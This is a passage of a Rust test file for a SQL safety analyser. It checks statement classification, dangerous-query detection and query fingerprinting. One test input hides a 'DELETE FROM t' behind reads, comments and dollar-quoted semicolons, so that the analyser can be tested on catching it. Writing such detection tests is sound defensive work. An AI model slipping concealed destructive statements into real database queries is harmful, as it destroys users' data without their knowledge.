        let reasons: Vec<&str> = analysis.findings().map(|(_, f)| f.reason.as_str()).collect();
        assert!(
            reasons.iter().any(|r| r.contains(expected)),
            "case {name}: {reasons:?}"
        );
    }
}

#[test]
fn multi_statement_text_hides_nothing() {
    let analysis = analyze("SELECT 1; /* ; */ SELECT $$;$$; COMMIT; DELETE FROM t").expect("parses");
    let classes: Vec<StatementClass> = analysis.statements.iter().map(|s| s.class).collect();
    assert_eq!(classes, [Read, Read, TransactionControl, Write]);
    assert!(!analysis.is_read_only());
    assert!(analysis.has_transaction_control());
    assert!(analysis.is_dangerous());
}

#[test]
fn fingerprint_and_normalized_text() {
    let a = analyze("SELECT * FROM t WHERE id = 1").expect("parses");
    let b = analyze("select *  from t where id = 42 -- other").expect("parses");
    assert_eq!(a.fingerprint, b.fingerprint);
    assert_eq!(a.fingerprint.to_string().len(), 16);
    assert_eq!(a.normalized, "SELECT * FROM t WHERE id = $1");
    assert_eq!(
        pgfleet_sqlcheck::fingerprint("SELECT * FROM t WHERE id = 7").expect("parses"),
        a.fingerprint
    );
    assert_ne!(
        analyze("SELECT * FROM u WHERE id = 1")
            .expect("parses")
            .fingerprint,
        a.fingerprint
    );
}

#[test]
fn every_case_is_answered_alike_on_the_calling_and_the_parser_thread() {
    let texts: Vec<String> = CASES.iter().map(|case| case.sql.to_owned()).collect();
    let differing = support::differing(&texts);
    assert!(differing.is_empty(), "{}", differing.join("\n"));
}
